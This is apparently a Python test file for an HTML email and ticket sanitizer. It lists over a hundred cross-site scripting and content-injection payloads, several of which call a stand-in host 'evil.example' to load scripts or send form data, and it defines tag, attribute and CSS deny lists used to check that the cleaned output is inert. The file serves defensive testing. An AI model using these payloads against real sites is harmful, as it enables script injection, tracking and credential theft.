"""HTML that tries to run something, and what may be left of it."""

from html.parser import HTMLParser

from app.tickets.safe_html import (
    clean_letter,
)

_names = str.split

PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
IMAGES = {
    "logo@client.example": PIXEL,
    "bad": "javascript:alert(1)",
    "svg": "data:image/svg+xml;base64,PHN2Zz4=",
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<!--<script>--><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror = 'alert(1)'>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='x' ONERROR=alert(1) x='>",
    "<img src=\"x\" on\x00error=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=https://evil.example/p.gif>",
    "<img src=//evil.example/p.gif>",
    "<img src=http://evil.example/p.gif>",
    "<img src=\\\\evil.example\\p.gif>",
    "<img srcset='https://evil.example/p.gif 2x'>",
    "<img src=cid:bad>",
    "<img src=cid:svg>",
    "<img src=cid:unknown>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=https://evil.example/x onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background='//evil.example'>x</td></tr></table>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><use href='https://evil.example/x#y'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_top>x</a>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "<area href='javascript:alert(1)' shape=default><map name=x></map>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:url(https://evil.example/x)'>x</div>",
    "<div style='background-color:red;background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='color:ex/**/pression(alert(1))'>x</div>",
    "<div style='font-family:url(https://evil.example/x)'>x</div>",
    "<div style='width:1px;behavior:url(https://evil.example/x.htc)'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x.xml#y)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='color:red;@import url(https://evil.example/x)'>x</div>",
    "<div style='list-style-image:url(https://evil.example/x)'>x</div>",
    "<div style='content:url(https://evil.example/x)'>x</div>",
    "<div style='cursor:url(https://evil.example/x),auto'>x</div>",
    "<div style='color:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='width:calc(1px);color:var(--x);--x:url(https://evil.example)'>x</div>",
    "<div style='font-family:\"x;background:url(//evil.example)\"'>x</div>",
    "<div style='font-family:\\75rl\\28 https://evil.example/x\\29'>x</div>",
    "<div style='color:rgb(1,2,3) url(https://evil.example/x)'>x</div>",
    "<div style='width:rgb(1) expression(alert(1))'>x</div>",
    "<div style='font-family:@x'>x</div>",
    "<div style='width:/*x*/1px'>x</div>",
    "<div style='font-family:x\\'>x</div>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<iframe/onload=alert(1)>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<audio src=https://evil.example/x autoplay onplay=alert(1)></audio>",
    "<video poster=https://evil.example/x><source src=https://evil.example/y onerror=alert(1)></video>",
    "<form action=https://evil.example><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p title='</p><img src=x onerror=alert(1)>'>x",
    "<p title=\"&quot;><img src=x onerror=alert(1)>\">x",
    "<div id=x class=y name=z data-x=1 contenteditable onbeforeinput=alert(1)>x</div>",
    "<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>",
    "</body></html><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml version='1.0'?><?php echo 1 ?><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<custom-tag onclick=alert(1) is=x>x</custom-tag>",
    "<a href='https://ok.example\"onmouseover=alert(1)'>x</a>",
    "<font color='red\" onmouseover=\"alert(1)' face='url(x)'>x</font>",
    "<td nowrap onmouseover=alert(1) width='100%\" onload=\"alert(1)'>x",
]  # fmt: skip

TAGS = frozenset(
    _names(
        """
    html head meta title style body a abbr b big blockquote br caption center cite code col colgroup
    dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre q s samp small span
    strike strong sub sup table tbody td tfoot th thead tr tt u ul var
    """
    )
)
ATTRIBUTES = frozenset(
    _names(
        """
    style dir align title href src alt width height border cellpadding cellspacing bgcolor colspan
    rowspan valign nowrap span color size face start type value rel target
    """
    )
)
BAD_STYLE = (
    "url",
    "expression",
    "@",
    "position",
    "\\",
    "/*",
    "javascript",
    "var(",
    "image-set",
    "behavior",
    "binding",
)


class Seen(HTMLParser):
    """Every tag and attribute of a document, as a parser reads it."""

    def __init__(self, document):
        super().__init__(convert_charrefs=True)
        self.tags, self.words = [], []
        self.feed(document)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words.append(data)


def assert_inert(tags, remote=False):
    for tag, attributes in tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert name in ATTRIBUTES, (tag, name)
            assert not any(bad in (value or "").casefold() for bad in BAD_STYLE if name == "style"), value
        if "href" in attributes:
            assert attributes["href"].split(":")[0].casefold() in {"http", "https", "mailto", "tel"}
        if "src" in attributes:
            allowed = ("data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;")
            assert attributes["src"].casefold().startswith((*allowed, "https://") if remote else allowed)


def letter_tags(html, remote=False):
    return Seen(clean_letter(html, images=IMAGES, allow_remote=remote)).tags
